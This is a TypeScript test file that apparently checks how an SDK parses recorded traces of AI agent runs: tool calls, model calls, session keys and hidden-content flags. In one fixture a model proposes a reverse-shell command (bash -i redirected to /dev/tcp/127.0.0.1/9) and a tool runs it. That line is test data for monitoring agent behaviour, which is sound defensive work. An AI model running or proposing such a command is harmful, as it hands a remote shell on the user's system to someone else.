import { fixture, line, tell } from '../../test/support/recorded';

describe('the TypeScript SDK', () => {
  const { events, links } = tell(fixture('traceloop/suspicious-full'));

  it('takes the arguments out of their wrapper', () => {
    const told = events.map(line).filter((one) => one.includes('/dev/tcp/127.0.0.1/9'));
    expect(told.sort()).toEqual([
      "bash.tool completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
      "chat gpt-4.1 completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (exit 1)",
      "chat gpt-4.1 proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
    ]);
    // Tool spans have no id, so that the conversation's are left out.
    const ids = events.filter(({ action }) => action.type === 'exec').map(({ callId }) => callId);
    expect(new Set(ids)).toEqual(new Set([undefined]));
  });

  it('keys by the trace and keeps the session as what the app said', () => {
    expect(new Set(events.map(({ scope }) => scope.slice(0, 6)))).toEqual(new Set(['trace:']));
    expect(new Set(events.map(({ session }) => session))).toEqual(new Set(['session-0001']));
    expect(links.map(({ kind }) => kind).sort()).toEqual(['session-host', 'trace-session']);
    expect(events[0]?.user).toBe('traceloop:user-0001');
  });

  it('counts a model call once', () => {
    expect(events.filter(({ action }) => action.type === 'model.call')).toHaveLength(3);
  });

  it('says what would show a run without content', () => {
    const hidden = tell(fixture('traceloop/suspicious-nocontent')).events;
    const ran = hidden.filter(({ action }) => action.type === 'exec');
    expect(ran.length).toBeGreaterThan(4);
    for (const { visibility } of ran) {
      expect(visibility).toContainEqual({ field: 'action.command', state: 'hidden', setting: 'traceContent: true' });
    }
  });
});

it('prefers GenAI names over its own, and reads the older ones', () => {
  expect(tell(fixture('traceloop/python')).events.map(line)).toEqual([
    'execute_tool terminal completed: exec command=df -h (ok)',
    'terminal.tool completed: exec command=uptime (ok)',
    'openai.chat completed: model.call provider=OpenAI model=gpt-x inputTokens=20 cachedInputTokens=16 outputTokens=4 (ok)',
    'openai.chat completed: prompt text=How long is it up? origin=unknown',
    'openai.chat proposed: exec command=uptime',
    'tools/call.mcp completed: mcp.call arguments={"key":"a"} (ok)',
  ]);
});
